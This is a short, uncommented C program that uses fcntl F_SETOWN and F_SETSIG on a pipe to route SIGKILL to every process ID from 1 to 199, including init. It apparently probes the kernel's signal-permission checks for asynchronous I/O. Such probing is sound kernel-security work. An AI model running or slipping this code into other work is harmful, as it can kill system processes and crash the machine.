#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
int main(void)
{
    int ends[2];
    if (pipe(ends) == -1)
        return 1;
    for (int pid = 1; pid < 200; pid++) {
        if (pid == getpid())
            continue;
        fcntl(ends[0], F_SETOWN, pid);
        fcntl(ends[0], F_SETSIG, SIGKILL);
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        (void)!write(ends[1], "x", 1);
    }
    return 0;
}
